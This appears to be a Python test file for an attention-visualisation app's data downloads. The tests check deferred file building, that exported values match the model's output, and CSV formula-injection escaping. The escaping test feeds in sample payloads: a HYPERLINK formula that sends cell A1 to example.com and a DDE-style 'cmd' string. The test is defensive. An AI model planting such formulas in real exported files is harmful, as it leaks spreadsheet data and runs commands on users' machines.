"""The views' data downloads: built when clicked (not on every rerun), and exactly the values the model computed."""

from __future__ import annotations

import csv
import io

import numpy as np
from apptest_helpers import assert_clean, run_app

from conftest import SENTENCE
from mha_viz.analysis.patterns import output_change
from mha_viz.config import Config
from mha_viz.pipeline.road import traces
from mha_viz.ui.common import npz_bytes, shown
from mha_viz.ui.views.heads import focus_csv
from mha_viz.ui.views.wo import change_csv


def test_download_buttons_build_their_files_on_click(minilm) -> None:
    for view in ("Heads", "W^O", "Head count"):
        at = run_app(view=view)
        assert_clean(at)
        data = [b.proto for b in at.get("download_button") if "(.npz)" in b.proto.label or "(.csv)" in b.proto.label]
        assert len(data) == 2, view
        for proto in data:  # a deferred file: no bytes in the page; a click does not rerun the script
            assert proto.HasField("deferred_file_id") and proto.ignore_rerun, (view, proto.label)


def test_the_files_hold_the_traces_values(minilm) -> None:
    _, _, (t,) = traces(Config(), SENTENCE, layers=[3], lm=minilm)
    special = [False] * t.n_tokens
    sh = shown(t.pattern.numpy(), t.tokens, special, hide=False)
    q = list(t.tokens).index("it")
    rows = list(csv.reader(io.StringIO(focus_csv(sh, q, "it").decode("utf-8"))))
    assert rows[0] == ["it → key", *t.tokens]
    got = np.array([[float(v) for v in r[1:]] for r in rows[1:]])  # [heads, keys]
    np.testing.assert_allclose(got, t.pattern[:, q].numpy(), rtol=1e-5, atol=1e-7)
    assert [r[0] for r in rows[1:]] == [f"head {i}" for i in range(t.n_heads)]
    other = t.output.numpy() * 1.5
    change = output_change(t.output.numpy(), other)
    rows = list(csv.reader(io.StringIO(change_csv(t.tokens, change).decode("utf-8"))))
    np.testing.assert_allclose([float(r[1]) for r in rows[1:]], change["relative"], rtol=1e-5)
    np.testing.assert_allclose([float(r[1]) for r in rows[1:]], 0.5, rtol=1e-5)  # |1.5 y - y| / |y|
    arrays = np.load(io.BytesIO(npz_bytes({"pattern": t.pattern.numpy(), "tokens": np.asarray(t.tokens)})))
    np.testing.assert_array_equal(arrays["pattern"], t.pattern.numpy())
    assert list(arrays["tokens"]) == list(t.tokens)


FORMULA = '=HYPERLINK("http://example.com/?"&A1,"Click")'


def test_user_text_never_becomes_a_formula_cell_in_a_csv(minilm) -> None:
    """Issue 35 §4.7: own weights' word tokens that a spreadsheet reads as formulas (= + - @, a tab, a CR) get an
    apostrophe in the Heads and Lines .csv; numbers, negative ones included, stay numbers."""
    from mha_viz.figures import select_lines
    from mha_viz.pipeline.own_road import own_trace
    from mha_viz.ui.views.lines import lines_csv

    words = [FORMULA, "+1+cmd|'/c'!A0", "-2+3", "@SUM(A1:A9)", "plain", "-0.5"]
    config = Config(model="own", tokens="words", d_model=32, n_heads=4, seed=0)
    _, _, t = own_trace(minilm, " ".join(words), config)
    assert list(t.tokens) == words  # the tokens are the user's words, as typed
    sh = shown(t.pattern.numpy(), t.tokens, [False] * t.n_tokens, hide=False)
    n = t.n_tokens
    files = {
        "heads": focus_csv(sh, 0, t.tokens[0]),
        "lines": lines_csv(
            select_lines(sh.pattern, [0, 1], None, ((0, n), (0, n)), threshold=0.0), sh.labels, sh.labels
        ),
    }
    for name, data in files.items():
        cells = [c for row in csv.reader(io.StringIO(data.decode("utf-8"))) for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], name
        assert all(float(c) < 0 for c in cells if c.startswith("-")), name  # only numbers start with "-"
        assert "'" + FORMULA in cells, name  # shown as the text it is
        assert "'-2+3" in cells and "'@SUM(A1:A9)" in cells, name
    change = {"relative": np.array([-0.25]), "cosine": np.array([-1.0])}
    rows = list(csv.reader(io.StringIO(change_csv(("-x",), change).decode())))
    assert rows[1] == ["'-x", "-0.25", "-1"]  # a number is not a formula
